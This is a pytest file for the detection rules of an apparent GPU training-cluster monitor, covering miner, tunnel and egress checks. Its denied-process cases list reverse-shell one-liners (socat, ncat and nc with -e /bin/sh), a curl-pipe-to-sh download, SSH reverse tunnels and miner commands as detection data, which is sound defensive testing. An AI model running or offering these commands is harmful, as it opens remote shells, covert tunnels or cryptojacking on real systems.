"""Each rule on its own: a window of samples and a policy in, findings out."""

from __future__ import annotations

from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trainguard.api.sample import Sample
from trainguard.api.v1alpha1 import Policy
from trainguard.detection import rules
from trainguard.detection.compiled import CompiledPolicy
from trainguard.detection.context import DCGM_TENSOR_ACTIVE, EngineContext, MiningThresholds
from trainguard.detection.endpoints import parse_ip
from trainguard.detection.rules import Check, RuleInput
from trainguard.detection.violation import Finding
from trainguard.detection.window import Window

from .samples import GIB, POD_IP, conn, gpu, listen, policy, proc, sample


def run(
    check: Check,
    samples: Sequence[Sample],
    pol: Policy | None = None,
    ctx: EngineContext | None = None,
    job_ips: Sequence[str] = (),
) -> list[Finding]:
    """The rule's findings on the last sample, the window holding them all."""
    ctx = ctx or EngineContext()
    compiled = CompiledPolicy(pol or Policy(), ctx)
    window = Window(ctx.mining)
    for s in samples:
        window.push(s)
    inp = RuleInput(
        sample=samples[-1],
        window=window,
        policy=compiled,
        now=samples[-1].ts,
        job_ips={parse_ip(i).packed for i in job_ips},
        quiet={},
    )
    out = list(check(inp))
    assert all(f.rule for f in out)
    return out


def rules_of(found: list[Finding]) -> list[tuple[str, str]]:
    return [(f.rule, f.identity) for f in found]


# --- process.denied / process.unexpected ------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "cmdline"),
    [
        ("xmrig", "./xmrig -o pool.example:3333 -u x"),
        ("lolMiner", "/tmp/lolMiner --algo ETCHASH"),
        ("python3", "python3 run.py --pool stratum+tcp://192.0.2.7:3333"),
        ("miner", "miner --url stratum+ssl://pool.example:443"),
        ("worker", "worker -o stratum2+tcp://pool:3333"),
        ("t-rex", "t-rex -a kawpow"),
        ("sh", "sh -c /tmp/.x/nbminer -a etchash"),
        ("ngrok", "ngrok tcp 22"),
        ("chisel_1.9", "/tmp/chisel_1.9.1_linux_amd64 client https://x R:socks"),
        ("frpc", "frpc -c frpc.ini"),
        ("autossh", "autossh -M 0 -R 2222:localhost:22 u@h"),
        ("ssh", "ssh -fNR 2222:localhost:22 u@192.0.2.1"),
        ("ssh", "/usr/bin/ssh -L 8080:internal:80 u@h"),
        ("ssh", "ssh -D 1080 u@h"),
        ("socat", "socat TCP:192.0.2.1:4444 EXEC:/bin/sh"),
        ("ncat", "ncat 192.0.2.1 4444 -e /bin/bash"),
        ("nc", "nc -lvp 4444 -e /bin/sh"),
        ("cloudflared", "cloudflared tunnel --url http://localhost:6006"),
    ],
)
def test_default_denied_list_catches_miners_and_tunnels(name: str, cmdline: str) -> None:
    found = run(rules.process_denied, [sample(processes=[proc(7, name, cmdline)])])
    assert rules_of(found) == [("process.denied", name)]
    assert found[0].evidence["pid"] == 7
    assert found[0].evidence["cmdline"] == cmdline


@pytest.mark.parametrize(
    "cmdline",
    [
        "python3 -u train.py --local-rank 0",
        "torchrun --nnodes 2 train.py",
        "ssh u@host ls",  # ssh without a forward
        "socat TCP-LISTEN:8080 TCP:localhost:80",  # socat without exec
        "pip install minerl",  # a package whose name contains "miner"
        "python3 -m datamining.report",
        "tensorboard --logdir runs",
    ],
)
def test_default_denied_list_leaves_ordinary_processes_alone(cmdline: str) -> None:
    name = cmdline.split(maxsplit=1)[0]
    assert run(rules.process_denied, [sample(processes=[proc(7, name, cmdline)])]) == []


def test_default_list_can_be_turned_off_and_policy_patterns_still_apply() -> None:
    pol = policy(processes={"useDefaultDenied": False, "denied": ["re:curl .*\\| *sh", "NMAP*"]})
    s = sample(
        processes=[proc(7, "xmrig"), proc(8, "sh", "curl -s http://x | sh"), proc(9, "nmap", "nmap -sS 10.0.0.0/8")]
    )
    assert rules_of(run(rules.process_denied, [s], pol)) == [("process.denied", "sh"), ("process.denied", "nmap")]


def test_glob_matches_name_or_whole_cmdline_case_insensitively_regex_is_searched() -> None:
    pol = policy(processes={"useDefaultDenied": False, "denied": ["*Evil*", "re:--steal"]})
    hits = run(
        rules.process_denied,
        [
            sample(
                processes=[
                    proc(2, "good", "/opt/EVIL/run"),
                    proc(3, "evilbin", "x"),
                    proc(4, "ok", "ok --steal=1"),
                    proc(5, "fine", "fine --STEAL"),
                ]
            )
        ],
        pol,
    )
    assert [f.identity for f in hits] == ["good", "evilbin", "ok"]


def test_denied_process_seen_only_on_the_gpu_is_caught() -> None:
    s = sample(gpus=[gpu(procs=[{"pid": 51877, "name": "nanominer", "cmdline": "nanominer config.ini"}])])
    found = run(rules.process_denied, [s])
    assert rules_of(found) == [("process.denied", "nanominer")]
    assert found[0].evidence["gpu"] == 0


def test_process_allow_list_flags_the_rest_but_not_plumbing_or_denied() -> None:
    pol = policy(processes={"allowed": ["python*", "torchrun"]})
    s = sample(
        processes=[
            proc(1, "torchrun"),
            proc(2, "python3"),
            proc(3, "pause"),
            proc(4, "trainguard", "trainguard sensor"),
            proc(5, "curl", "curl http://x"),
            proc(6, "xmrig"),
        ]
    )
    assert rules_of(run(rules.process_unexpected, [s], pol)) == [("process.unexpected", "curl")]
    assert run(rules.process_unexpected, [s], Policy()) == []  # no allow-list, no rule


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(["python3", "torchrun", "pip", "python3.11"]), min_size=1, max_size=8))
def test_allowed_processes_never_flagged(names: list[str]) -> None:
    pol = policy(processes={"allowed": ["python*", "torchrun", "pip"]})
    s = sample(processes=[proc(i + 1, n) for i, n in enumerate(names)])
    assert run(rules.process_unexpected, [s], pol) == []


def test_an_invalid_regex_is_refused_when_the_policy_is_compiled() -> None:
    with pytest.raises(ValueError, match="not a valid regular expression"):
        CompiledPolicy(policy(processes={"denied": ["re:(unclosed"]}), EngineContext())


# --- GPU --------------------------------------------------------------------------------------


def test_gpu_process_not_in_allowed_list() -> None:
    pol = policy(gpu={"allowedProcesses": ["python*"]})
    s = sample(gpus=[gpu(procs=[{"pid": 1, "name": "python3"}, {"pid": 2, "name": "hashcat"}, {"pid": 3, "name": ""}])])
    found = run(rules.gpu_process_unexpected, [s], pol)
    assert rules_of(found) == [("gpu.process.unexpected", "hashcat"), ("gpu.process.unexpected", "(unattributed)")]
    assert run(rules.gpu_process_unexpected, [s], Policy()) == []


@pytest.mark.parametrize(
    ("check", "gpu_policy", "over", "under"),
    [
        (rules.gpu_utilization, {"maxUtilization": 0.8}, gpu(util=0.81), gpu(util=0.8)),
        (rules.gpu_memory, {"maxMemoryBytes": 40 * GIB}, gpu(memory=40 * GIB + 1), gpu(memory=40 * GIB)),
        (rules.gpu_power, {"maxPowerWatts": 300}, gpu(power=300.5), gpu(power=300)),
    ],
)
def test_gpu_bounds_flag_only_above_the_bound(
    check: Check, gpu_policy: dict[str, float], over: dict[str, object], under: dict[str, object]
) -> None:
    pol = policy(gpu=gpu_policy)
    found = run(check, [sample(gpus=[over])], pol)  # type: ignore[list-item]
    assert [f.identity for f in found] == ["gpu0"]
    assert "bound" in found[0].evidence
    assert run(check, [sample(gpus=[under])], pol) == []  # type: ignore[list-item]


# --- gpu.mining-signature ---------------------------------------------------------------------

WINDOW = MiningThresholds().window_samples


def miner_window(
    n: int = WINDOW,
    memory: float = 5 * GIB,
    dcgm: dict[str, float] | None = None,
    util: float = 1.0,
    power: float = 300.0,
) -> list[Sample]:
    return [
        sample(t=i, gpus=[gpu(util=util - 0.005 * (i % 2), memory=memory, power=power + (i % 3))], dcgm=dcgm)
        for i in range(n)
    ]


def test_mining_signature_on_a_full_flat_saturated_low_memory_window() -> None:
    found = run(rules.gpu_mining_signature, miner_window())
    assert rules_of(found) == [("gpu.mining-signature", "gpu0")]
    ev = found[0].evidence
    assert ev["corroboratedBy"] == ["lowMemory"]
    assert ev["windowSamples"] == WINDOW
    assert ev["gpuProcesses"] == ["python3"]


def test_mining_signature_waits_for_a_full_window() -> None:
    assert run(rules.gpu_mining_signature, miner_window(WINDOW - 1)) == []


def test_mining_signature_needs_corroboration_full_memory_is_training() -> None:
    assert run(rules.gpu_mining_signature, miner_window(memory=75 * GIB)) == []


def test_mining_signature_corroborated_by_an_idle_tensor_pipe_even_with_full_memory() -> None:
    found = run(rules.gpu_mining_signature, miner_window(memory=75 * GIB, dcgm={DCGM_TENSOR_ACTIVE: 0.01}))
    assert found and found[0].evidence["corroboratedBy"] == ["idleTensorPipe"]
    assert run(rules.gpu_mining_signature, miner_window(memory=75 * GIB, dcgm={DCGM_TENSOR_ACTIVE: 0.6})) == []


def test_one_dip_in_the_window_is_enough_to_clear_it() -> None:
    window = miner_window()
    window[30] = sample(t=30, gpus=[gpu(util=0.5, memory=5 * GIB, power=300)])
    assert run(rules.gpu_mining_signature, window) == []


def test_oscillating_power_is_not_a_miner() -> None:
    window = [sample(t=i, gpus=[gpu(util=1.0, memory=5 * GIB, power=300 if i % 2 else 600)]) for i in range(WINDOW)]
    assert run(rules.gpu_mining_signature, window) == []


@settings(max_examples=40, deadline=None)
@given(
    st.lists(st.floats(min_value=0.0, max_value=0.99), min_size=WINDOW, max_size=WINDOW).filter(
        lambda us: min(us) < 0.9 or max(us) - min(us) > 0.1
    )
)
def test_training_like_utilization_never_looks_like_mining(utils: list[float]) -> None:
    # Any window with a dip below the floor, or with real variation, is not a hash loop.
    window = [sample(t=i, gpus=[gpu(util=u, memory=5 * GIB, power=300)]) for i, u in enumerate(utils)]
    assert run(rules.gpu_mining_signature, window) == []


def test_a_gpu_that_leaves_the_sample_starts_its_window_over() -> None:
    window = miner_window()
    window[10] = sample(t=10, gpus=[])
    assert run(rules.gpu_mining_signature, window) == []


# --- network ----------------------------------------------------------------------------------

EGRESS = policy(network={"egress": [{"cidr": "203.0.113.0/24", "ports": [{"port": 443}]}]})


def test_egress_allowed_by_cidr_and_port_only() -> None:
    s = sample(connections=[conn("203.0.113.9:443"), conn("203.0.113.9:80"), conn("198.51.100.1:443")])
    found = run(rules.net_egress_undeclared, [s], EGRESS)
    assert [f.identity for f in found] == ["203.0.113.9:80", "198.51.100.1:443"]
    assert found[0].evidence["remote"] == "203.0.113.9:80"


def test_egress_protocol_must_match() -> None:
    s = sample(connections=[conn("203.0.113.9:443", proto="udp")])  # QUIC to a TCP-only rule
    assert [f.identity for f in run(rules.net_egress_undeclared, [s], EGRESS)] == ["203.0.113.9:443"]


def test_egress_except_carves_out_of_the_cidr() -> None:
    pol = policy(network={"egress": [{"cidr": "0.0.0.0/0", "except": ["169.254.169.254/32"]}]})
    s = sample(connections=[conn("169.254.169.254:80"), conn("8.8.8.8:443")])
    assert [f.identity for f in run(rules.net_egress_undeclared, [s], pol)] == ["169.254.169.254:80"]


def test_dns_to_any_resolver_by_default_or_only_to_the_given_ones() -> None:
    s = sample(connections=[conn("10.96.0.10:53", proto="udp"), conn("1.1.1.1:53", proto="udp")])
    assert run(rules.net_egress_undeclared, [s]) == []
    ctx = EngineContext(dns_resolvers=frozenset({"10.96.0.10"}))
    assert [f.identity for f in run(rules.net_egress_undeclared, [s], ctx=ctx)] == ["1.1.1.1:53"]
    no_dns = policy(network={"allowDNS": False})
    assert len(run(rules.net_egress_undeclared, [s], no_dns)) == 2


def test_intra_job_traffic_allowed_unless_turned_off() -> None:
    s = sample(connections=[conn("10.244.2.11:41000")])
    assert run(rules.net_egress_undeclared, [s], job_ips=["10.244.2.11"]) == []
    off = policy(network={"allowIntraJob": False})
    assert len(run(rules.net_egress_undeclared, [s], off, job_ips=["10.244.2.11"])) == 1


def test_inbound_and_loopback_and_closed_connections_are_not_egress() -> None:
    s = sample(
        listening=[listen(6006)],
        connections=[
            conn("192.0.2.50:39822", local_port=6006),  # inbound to a listener
            conn("127.0.0.1:5432"),
            conn("[::1]:5432", proto="tcp6", local_ip="::1"),
            conn("192.0.2.50:443", state="TIME_WAIT"),
            conn("192.0.2.50:443", state="SYN_SENT"),  # an attempt: not egress (net.tunnel counts those)
        ],
    )
    assert run(rules.net_egress_undeclared, [s]) == []


def test_ipv6_and_mapped_addresses() -> None:
    pol = policy(network={"egress": [{"cidr": "2001:db8::/32"}, {"cidr": "203.0.113.0/24"}]})
    s = sample(
        connections=[
            conn("[2001:db8::5]:443", proto="tcp6"),
            conn("[::ffff:203.0.113.7]:443", proto="tcp6"),
            conn("[2001:db9::1]:443", proto="tcp6"),
        ]
    )
    assert [f.identity for f in run(rules.net_egress_undeclared, [s], pol)] == ["[2001:db9::1]:443"]


def test_unparseable_remote_is_flagged() -> None:
    s = sample(connections=[conn("not-an-address")])
    assert [f.identity for f in run(rules.net_egress_undeclared, [s])] == ["not-an-address"]


def test_selector_rules_use_the_context_ips_or_else_allow_the_cluster_ranges() -> None:
    pol = policy(network={"egress": [{"podSelector": {"matchLabels": {"app": "mlflow"}}, "ports": [{"port": 5000}]}]})
    s = sample(connections=[conn("10.1.2.3:5000"), conn("192.0.2.9:5000")])
    # Unresolved: any address where a pod can be, on the rule's ports.
    assert [f.identity for f in run(rules.net_egress_undeclared, [s], pol)] == ["192.0.2.9:5000"]
    resolved = EngineContext(selector_peers={0: frozenset({"10.9.9.9"})})
    assert [f.identity for f in run(rules.net_egress_undeclared, [s], pol, ctx=resolved)] == [
        "10.1.2.3:5000",
        "192.0.2.9:5000",
    ]


def test_tunnel_ssh_and_miner_pool_ports_including_attempts() -> None:
    s = sample(connections=[conn("192.0.2.10:22"), conn("192.0.2.77:3333", state="SYN_SENT"), conn("192.0.2.5:443")])
    found = run(rules.net_tunnel, [s])
    assert [(f.identity, f.evidence["reason"]) for f in found] == [
        ("192.0.2.10:22", "ssh"),
        ("192.0.2.77:3333", "miner-pool port"),
    ]


def test_tunnel_exemptions_intra_job_and_explicitly_declared_port() -> None:
    s = sample(connections=[conn("10.244.2.11:22"), conn("203.0.113.5:22")])
    pol = policy(network={"egress": [{"cidr": "203.0.113.0/24", "ports": [{"port": 22}]}]})
    assert run(rules.net_tunnel, [s], pol, job_ips=["10.244.2.11"]) == []
    # A rule that allows every port does not declare SSH.
    any_port = policy(network={"egress": [{"cidr": "203.0.113.0/24"}]})
    assert [f.identity for f in run(rules.net_tunnel, [s], any_port, job_ips=["10.244.2.11"])] == ["203.0.113.5:22"]


def test_tunnel_process_and_forbid_tunnels_off() -> None:
    s = sample(
        processes=[proc(5, "chisel", "chisel client https://192.0.2.20:443 R:socks")],
        connections=[conn("192.0.2.10:22")],
    )
    assert sorted(f.identity for f in run(rules.net_tunnel, [s])) == ["192.0.2.10:22", "process:chisel"]
    assert (
        rules.CHAIN[[r.name for r in rules.CHAIN].index("net.tunnel")].enabled(
            CompiledPolicy(policy(network={"forbidTunnels": False}), EngineContext())
        )
        is False
    )


def test_listener_rules() -> None:
    pol = policy(network={"listenPorts": [6006]})
    s = sample(
        processes=[proc(1, "python3"), proc(733, "python3", "python3 -m http.server 8081")],
        listening=[
            listen(6006),
            listen(9400, pid=900),
            listen(41000, address=POD_IP),
            listen(8081, pid=733),
            listen(8081, address="::", proto="tcp6", pid=733),
            listen(22, address="127.0.0.1"),
        ],
    )
    found = run(rules.net_listen_undeclared, [s], pol)
    assert [f.identity for f in found] == ["port 8081", "port 8081", "port 22"]
    assert found[0].evidence["cmdline"] == "python3 -m http.server 8081"
    strict = EngineContext(ephemeral_ports=None, sensor_port=9500)
    assert [f.identity for f in run(rules.net_listen_undeclared, [s], pol, ctx=strict)] == [
        "port 9400",
        "port 41000",
        "port 8081",
        "port 8081",
        "port 22",
    ]


# --- sensor -----------------------------------------------------------------------------------


def test_sensor_restarted_when_seq_goes_back() -> None:
    assert rules_of(run(rules.sensor_restarted, [sample(t=0, seq=40), sample(t=1, seq=0)])) == [
        ("sensor.restarted", "")
    ]
    assert run(rules.sensor_restarted, [sample(t=0, seq=40), sample(t=1, seq=41)]) == []
    assert run(rules.sensor_restarted, [sample(t=0, seq=40), sample(t=5, seq=45)]) == []  # gaps are not restarts


def test_sensor_silent_by_the_clock() -> None:
    assert rules.sensor_silent(last_heard=100.0, now=109.9, silence_seconds=10) is None
    found = rules.sensor_silent(last_heard=100.0, now=110.0, silence_seconds=10)
    assert found is not None and found.rule == "sensor.silent" and found.evidence["silentSeconds"] == 10.0


# --- sections ---------------------------------------------------------------------------------


@settings(max_examples=50, deadline=None)
@given(
    st.lists(st.sampled_from(["python3", "xmrig", "ssh -R 1:h:2 u@h", "chisel", "curl"]), max_size=4),
    st.lists(st.sampled_from(["203.0.113.1:443", "192.0.2.1:22", "192.0.2.1:443", "10.96.0.10:53"]), max_size=4),
    st.lists(st.sampled_from([6006, 8081, 9400, 41000]), max_size=3),
    st.floats(min_value=0, max_value=1),
)
def test_sections_gate_never_hides_a_finding(
    cmds: list[str], remotes: list[str], ports: list[int], util: float
) -> None:
    # The engine runs only the rules whose sections are active; that must never lose a finding.
    pol = policy(
        network={"listenPorts": [6006], **EGRESS.network.model_dump(by_alias=True, include={"egress"})},
        processes={"allowed": ["python*"]},
        gpu={"maxUtilization": 0.5, "allowedProcesses": ["python*"]},
    )
    s = sample(
        processes=[proc(i + 2, c.split()[0], c) for i, c in enumerate(cmds)],
        connections=[conn(r, local_port=50000 + i) for i, r in enumerate(remotes)],
        listening=[listen(p) for p in ports],
        gpus=[gpu(util=util)],
    )
    ctx = EngineContext()
    compiled = CompiledPolicy(pol, ctx)
    window = Window(ctx.mining)
    window.push(s)
    gated = RuleInput(sample=s, window=window, policy=compiled, now=s.ts, job_ips=set(), quiet={})
    active = rules.active_sections(gated)
    for rule in rules.CHAIN:
        fresh = RuleInput(sample=s, window=window, policy=compiled, now=s.ts, job_ips=set(), quiet={})
        if rule.enabled(compiled) and rule.check(fresh):
            assert rule.sections & active, rule.name
